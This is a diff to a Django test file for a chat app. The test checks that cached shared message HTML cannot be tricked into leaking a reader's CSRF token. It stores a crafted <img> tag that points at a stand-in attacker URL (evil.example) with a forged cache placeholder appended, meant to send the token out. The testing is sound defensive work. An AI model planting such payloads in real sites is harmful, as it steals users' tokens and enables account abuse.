@@ -1,5 +1,5 @@
-"""A room's newest messages are cached as HTML shared between readers (render.py): every change
-shows on the next view, and what belongs to one reader never reaches another."""
+"""A room's newest messages are cached as HTML shared between readers (pages.py, core/shared.py):
+every change shows on the next view, and what belongs to one reader never reaches another."""
 
 from __future__ import annotations
 
@@ -8,10 +8,11 @@ from typing import Any
 
 import pytest
 from django.db import connection
-from django.test import Client
+from django.test import Client, override_settings
 from django_scopes import scope
 
 from tsunagu.accounts.models import User
+from tsunagu.core import shared
 from tsunagu.talk import actions
 from tsunagu.talk.models import MANAGED_KINDS, Message, RoomKind, RoomMember
 from tsunagu.talk.tests.helpers import default_room, fill_room, make_room, post
@@ -199,14 +200,18 @@ def test_text_with_a_nul_stored_by_another_path_cannot_fill_a_readers_hole(world
     room = default_room(world.net_a)
     message = post(world.alumni_a, room, "写真です")
     evil = "https://evil.example/?t="
+    with override_settings(SECRET_KEY="a guess at the site's key"):
+        forged = str(shared.hole("csrf"))  # what a member could try to pass for a hole
     with scope(network=world.net_a):
-        Message.objects.filter(pk=message.pk).update(body_html=f'<img src="{evil}\x00c\x00">')
-    User.objects.filter(pk=world.alumni_a.user_id).update(name="花子\x00c\x00")
+        Message.objects.filter(pk=message.pk).update(body_html=f'<img src="{evil}{forged}">')
+    User.objects.filter(pk=world.alumni_a.user_id).update(name=f"花子{forged}")
 
     html = page(world.client(world.employee_a), world, room)
 
     token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
     shown = message_html(html, message)
+    assert token not in shown.split("csrfmiddlewaretoken", 1)[0]  # not in the name or the body
     assert f"{evil}{token}" not in shown
-    assert f'src="{evil}\ufffdc\ufffd"' in shown and "花子\ufffdc\ufffd" in shown
+    seen = forged.replace("\x00", "\ufffd")
+    assert f'src="{evil}{seen}"' in shown and f"花子{seen}" in shown
     assert "\x00" not in shown
